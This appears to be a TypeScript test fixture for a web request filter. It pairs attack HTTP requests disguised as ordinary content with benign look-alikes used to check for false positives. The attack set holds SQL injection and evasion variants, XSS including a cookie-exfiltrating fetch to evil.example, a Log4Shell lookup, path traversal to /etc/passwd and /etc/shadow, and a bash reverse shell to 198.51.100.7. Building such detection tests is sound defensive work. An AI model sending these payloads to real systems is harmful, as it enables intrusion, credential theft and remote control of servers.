import type { Named } from './index.ts';

const form = (name: string, value: string, path = '/contact') =>
  `POST ${path} HTTP/1.1\nHost: shop.example\nContent-Type: application/x-www-form-urlencoded\n\n${name}=${encodeURIComponent(value)}&page=1`;
const json = (document: unknown, path = '/api/messages') =>
  `POST ${path} HTTP/1.1\nHost: shop.example\nContent-Type: application/json\n\n${JSON.stringify(document)}`;
const search = (value: string) =>
  `GET /search?q=${encodeURIComponent(value)} HTTP/1.1\nHost: shop.example\n\n`;
const header = (name: string, value: string) => `GET / HTTP/1.1\nHost: shop.example\n${name}: ${value}\n\n`;
const xml = (body: string) =>
  `POST /api HTTP/1.1\nHost: shop.example\nContent-Type: application/xml\n\n${body}`;

/** Attacks, each dressed as one of the clean contents below. */
export const MALICIOUS_DRESSED_REQUESTS: Named = {
  'a film that waits': form('comment', "sleep was great' and sleep(5) and 'a'='a"),
  'a book whose title runs': form('title', 'javascript:alert(1)//The Good Parts'),
  'a handler in a question': form(
    'comment',
    'Is this allowed here? <a onclick=alert(1)>click me please</a> I think so',
  ),
  'a search for a file': search('cat /etc/passwd'),
  'a question with an injection': search("how' union select 1,2-- "),
  'a question with an element': search('what is <img src=x onerror=alert(1)>'),
  'a picture of a readme that leads elsewhere': form('file', '../../../../etc/passwd'),
  'a review that closes a statement': form(
    'comment',
    "nice'); insert into users(name,role) values('x','admin');-- ",
  ),
  'a review that waits': form('comment', "I really like this product' and sleep(5) and 'x'='x"),
  'a review that asks for more': form('comment', "nice post my friend', (select version()), '"),
  'a review that reads a table': `comment=${encodeURIComponent("nice post my friend' union select 1,2#")}&author=jane`,
  'a note that drops a table': form('note', "see you at five'; drop table notes"),
  'a message with an element that loads': form(
    'message',
    'This is a test message <iframe src=//evil.example></iframe>',
  ),
  'a message with a lookup': form(
    'message',
    'This is a test message ' + '$' + '{jndi:ldap://evil.example/a}',
  ),
  'a password that is a condition': form('password', "x' or 'a'='a"),
  'a name that is a condition': form('name', "O'Brien' or '1'='1"),
  'inches that are a condition': form('size', "6' or '6'='6"),
  'a chat with an element': json({ text: 'see <img src=x onerror=alert`1`> for the log' }),
  'a fence that is left': json({ content: '```js\nok()\n```\n<script src=//evil.example/x.js></script>' }),
  'a block of an editor with script': json({
    content: '<!-- wp:paragraph --><p>Hi</p><script>fetch("//evil.example/"+document.cookie)</script>',
  }),
  'an argument of GraphQL': json({ query: "{ user(name: \"x' or '1'='1\") { id } }" }, '/graphql'),
  'a variable of GraphQL': json(
    { query: 'query($f: F) { a(f: $f) { id } }', variables: { f: { password: { $ne: null } } } },
    '/graphql',
  ),
  'a pattern that is a place': form('exclude', '/etc/passwd;cat /etc/passwd|id'),
  'a setting that is a secret': json({ path: '/etc/shadow' }, '/api/settings'),
  'a job that connects a shell': json(
    { schedule: '* * * * *', command: 'bash -i >& /dev/tcp/198.51.100.7/44 0>&1' },
    '/api/jobs',
  ),
  'a style that asks': form('css', 'input[value^="a"]{background:url(//evil.example/a)}'),
  'a form for passwords': form(
    'note',
    '<form action=https://evil.example/login><input name=user><input type=password name=pass></form>',
  ),
  'an address in a quote that never ends': form('note', "<img src='//evil.example/?"),
  'script without a call': json({ title: 'top[/al/.source+/ert/.source](1)' }),
  'script handed over': search('[1].find(alert)'),
  'script by Reflect': search('Reflect.apply(alert,null,[1])'),
  'a way out of a framework': search("<x ng-focus=$event.path|orderBy:'(z=alert)(1)'>"),
  'an address in references': form('bio', '<a href="jav&#x0A;ascript:alert(1)">me</a>'),
  'a file by XInclude of any prefix': xml(
    '<r xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="http://evil.example/x"/></r>',
  ),
  'a schema on another host': xml(
    '<r xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="http://a.example http://198.51.100.7/x.xsd"/>',
  ),
  'SQL: quotes of PostgreSQL': search('1 or $$a$$=$$a$$'),
  'SQL: a number of another form': search('1e0union select 1,2'),
  'SQL: a date of ODBC': search("1' or {ts'2020-01-01 00:00:00'}"),
  'SQL: numbers of characters': search('char(49)+char(61)+char(49)'),
  'SQL: an operator of JSON': search("1' and '{\"a\":1}'::jsonb @> '{\"a\":1}'-- "),
  'SQL: less another selection': search('1 except select password from users'),
  'SQL: a variable compared': search("1' or @@version like '8%"),
  'SQL: a keyword in a keyword': search('uniunionon selselectect 1,2'),
  'SQL: in the name of a program': header('User-Agent', "Mozilla/5.0' or sleep(5)#"),
  'SQL: in values of one name': 'GET /?id=1+union/*&id=*/select/*&id=*/1,2 HTTP/1.1\nHost: a.example\n\n',
  'SQL: in a list': json({ ids: ["1'", " or sleep(5) or '1'='1"] }),
  'SQL: a password, in a list of files': json({ path: "x' union select 1,2-- " }, '/api/settings'),
};

/** What people write and search for, and what settings hold. */
export const CLEAN_DRESSED_REQUESTS: Named = {
  'a film': form('comment', 'sleep (2026 film) was better than I expected, go and see it.'),
  'films by their years': json({ film: 'Sleep (2023)', also: 'Exec (1999 film); System (2021)' }),
  'a book': form('title', 'JavaScript: The Good Parts'),
  'a book in an address': header('Referer', 'https://search.example/?q=javascript:+the+good+parts'),
  'what void means': search('javascript: void(0) meaning'),
  'a handler by its name': form('comment', 'Does <a onclick> still work in Vue?'),
  hearts: form('message', 'I love it <3 and <3 and you <3'),
  'a question about a file': search('how to use cat /etc/passwd'),
  'a question about a function': search('difference between eval() and exec() in python'),
  'a question about an element': search('what is <script> tag'),
  'a piece of furniture': form('product', 'drop table tennis balls'),
  'a committee': form('message', 'The union select committee met on Monday.'),
  'a comparison': form('message', '1=1 is trivial, but a or b = c is not.'),
  'solutions of an equation': form('answer', 'x = 1 or x = -1'),
  'a picture in a text': form('body', 'The image at ../img/logo.png is missing on mobile.'),
  'a picture in Markdown': form('body', '![logo](../../img/logo.png) is broken'),
  'the end of a statement, in a review': form('body', "Line 12: you forgot the '); at the end of the call."),
  Chinese: form('message', '你好。我想订购两个杯子(蓝色),请问多少钱?'),
  Japanese: search('東京。大阪'),
  'how a function waits': form('comment', 'pg_sleep(10) in a transaction holds the lock'),
  'how tables are listed': form('comment', 'Use information_schema.tables to list tables.'),
  'what was tried': form(
    'comment',
    "I typed ' or 1=1 into the login of our staging server, and it let me in. Scary!",
  ),
  'what was in a log': form(
    'comment',
    'My logs are full of GET /?id=1%27%20OR%201=1-- from one IP, how do I ban it?',
  ),
  'an element without an address': form('comment', 'The <iframe> element needs a title attribute.'),
  'a tag that is shown': form('text', '&lt;img src=x onerror=alert(1)&gt; was shown as text, good'),
  'words that are kept out': json(
    { blocklist: ['viagra', 'union select', '../', '<script'] },
    '/api/moderation',
  ),
  'a route like a folder': 'GET /home/products HTTP/1.1\nHost: shop.example\n\n',
  'a password with dashes': form('pwd', "Tr0ub4dor'&3--"),
  'a name with dashes': form('name', "O'Brien -- Smith"),
  feet: json({ size: "6' x 4' or 5' x 3'" }),
  inches: json({ size: '15" and 17"' }),
  'empty or not': json({ prompt: 'If it is empty or null, answer "none".' }),
  'a rule that is found in quotes': json({
    comment: "The filter blocks 'union select' in the body, even here.",
  }),
  'a license': `comment=${encodeURIComponent("The commands `show w' and `show c' should show the parts")}&author=jane`,
  'code in a fence': json({ content: '```html\n<img src=x onerror="console.log(1)">\n```' }),
  'a short remark on code': json({ text: 'ssh in and `tail -f /var/log/nginx/error.log`' }),
  'an article with code': json({
    content:
      '<!-- wp:paragraph --><p>Write <code>&lt;script&gt;alert(1)&lt;/script&gt;</code>.</p><!-- /wp:paragraph -->',
  }),
  'variables of GraphQL': json(
    { query: 'query Q($or: [F!]) { user(where: {or: $or}) { id } }', variables: { or: [{ a: 1 }] } },
    '/graphql',
  ),
  'bounds in a document': json(
    { filter: { price: { $gt: 5, $lt: 10 }, tags: { $in: ['a', 'b'] } } },
    '/api/query',
  ),
  'a pattern of a filter': json({ rules: [{ pattern: '/etc/passwd', action: 'block' }] }, '/api/rules'),
  'a line of crontab': form('cron', '*/5 * * * * /usr/local/bin/backup.sh > /dev/null 2>&1', '/panel/cron'),
  'a job': json(
    { schedule: '0 2 * * *', command: '/usr/bin/find /var/backups -mtime +7 -delete' },
    '/api/jobs',
  ),
  'places in settings': json(
    { path: '/var/www/html/uploads', log: '/var/log/app/error.log' },
    '/api/settings',
  ),
  'a program for a shell': json({
    script: '#!/bin/bash\ncd /srv/app && git pull && npm ci\n',
    name: 'deploy',
  }),
  'a style for links': form('css', 'a[href^="https"]{background:url(https://cdn.example/icon.svg)}'),
  'a place in a drawing': form('svg_note', '<svg viewBox="0 0 9 9"><use href="#a"/></svg>'),
  'a list of words': 'GET /list?tag[]=sql&tag[]=union+select&tag[]=(beginner) HTTP/1.1\nHost: a.example\n\n',
  'a file as browsers name it': form('file', 'C:\\fakepath\\photo.jpg'),
  'a schema of the same makers': xml(
    '<r xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="http://shop.example/ns order.xsd"/>',
  ),
};
